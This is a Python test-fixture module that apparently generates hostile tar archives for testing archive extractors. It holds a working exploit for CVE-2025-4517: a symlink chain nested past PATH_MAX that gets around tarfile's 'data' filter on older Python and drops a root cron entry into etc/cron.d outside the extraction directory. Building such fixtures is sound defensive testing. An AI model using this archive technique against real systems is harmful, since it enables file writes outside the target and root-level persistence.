"""Hostile tar archives for the tests of everything that extracts one (robot packages, bundle archives): members
a well-formed archive never holds, and CVE-2025-4517's symlink chain past PATH_MAX, which defeats tarfile's "data"
filter on a Python before 3.11.13/3.12.11/3.13.4."""

from __future__ import annotations

import io
import os
import tarfile
from pathlib import Path

STEPS = "abcdefghijklmnop"
ESCAPED = "etc/cron.d/edge-vla-escaped"  # where the hostile archives try to write, relative to their target


def add(tar: tarfile.TarFile, name: str, kind: bytes = tarfile.REGTYPE, link: str = "", data: bytes = b"",
         mode: int = 0o644) -> None:
    info = tarfile.TarInfo(name)
    info.type, info.linkname, info.size, info.mode = kind, link, len(data), mode
    tar.addfile(info, io.BytesIO(data) if kind == tarfile.REGTYPE else None)


def archive(out: Path, build) -> Path:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz", format=tarfile.GNU_FORMAT) as tar:
        build(tar)
    out.write_bytes(buf.getvalue())
    return out


def realpath_limit_escape(out: Path, staging_len: int, up: int) -> Path:
    """CVE-2025-4517: symlinks nested past PATH_MAX, which os.path.realpath stops expanding, so the "data"
    filter of a Python before 3.11.13/3.12.11/3.13.4 checks a lexical path inside the destination while
    the kernel follows the links `up` levels above it. `staging_len`: the length of the extraction dir."""
    component = "d" * ((os.pathconf("/", "PC_PATH_MAX") - staging_len - 1) // (len(STEPS) + 1))

    def build(tar: tarfile.TarFile) -> None:
        path = ""
        for step in STEPS:
            add(tar, os.path.join(path, component), tarfile.DIRTYPE, mode=0o755)
            add(tar, os.path.join(path, step), tarfile.SYMTYPE, component)
            path = os.path.join(path, component)
        long_link = os.path.join(*STEPS, "l" * 254)
        add(tar, long_link, tarfile.SYMTYPE, os.path.join(*[".."] * len(STEPS)))  # back to the destination
        add(tar, "escape", tarfile.SYMTYPE, os.path.join(long_link, *[".."] * up))
        add(tar, f"escape/{ESCAPED}", data=b"* * * * * root sh -c 'owned'\n")

    return archive(out, build)
